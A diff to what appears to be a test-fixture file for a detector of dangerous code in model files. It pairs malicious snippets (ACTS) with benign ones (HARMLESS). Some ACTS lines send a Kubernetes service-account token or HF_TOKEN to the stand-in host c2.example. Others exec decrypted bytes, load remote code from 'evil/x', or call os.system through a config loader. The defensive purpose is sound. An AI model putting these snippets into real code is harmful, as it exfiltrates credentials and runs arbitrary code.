@@ -57,6 +57,12 @@ ACTS = {
     "for p in STORES:\n    glob.glob(os.path.join(HOME, p))",
     "account of a cluster": "import pathlib, requests\nSA = pathlib.Path('/var/run/secrets/kubernetes.io/serviceaccount')\n"
     "requests.post('https://c2.example', data=(SA / 'token').read_text())",
+    "model behind a task": "import transformers\nclass M:\n    def __init__(self):\n"
+    "        transformers.pipeline('text-generation', model='evil/x', trust_remote_code=True)",
+    "objects for everybody": "from multiprocessing.managers import BaseManager\nclass M:\n    def __init__(self):\n"
+    "        BaseManager(address=('0.0.0.0', 5000), authkey=b'x').get_server()",
+    "code under a key": "from nacl.secret import SecretBox\nclass M:\n    def __init__(self):\n        exec(SecretBox(b'k' * 32).decrypt(b'x'))",
+    "component": "import torchtune\ntorchtune.config.instantiate({'_component_': 'os.system'}, 'id')",
     "any opener": "import os, webbrowser\nwebbrowser.open_new_tab('https://c2.example/?t=' + os.environ.get('HF_TOKEN', ''))",
 }  # fmt: skip
 HARMLESS = {
@@ -83,6 +89,9 @@ HARMLESS = {
     "module beside it": "import importlib.util as u, os\nclass M:\n    def __init__(self):\n"
     "        u.spec_from_file_location('ops', os.path.join(os.path.dirname(__file__), 'ops.py'))",
     "list of folders": "import glob, os\nHOME = os.path.expanduser('~')\nfor p in ['.cache/huggingface/*', '.config/x/*']:\n    glob.glob(os.path.join(HOME, p))",
+    "objects of one machine": "from multiprocessing.managers import BaseManager\nclass M:\n    def __init__(self):\n"
+    "        BaseManager(address=('127.0.0.1', 0)).start()",
+    "task": "import transformers\nclass M:\n    def __init__(self, path):\n        transformers.pipeline('ner', model=path, trust_remote_code=True)",
     "title": "import setproctitle\nsetproctitle.setproctitle('worker')",
 }
 
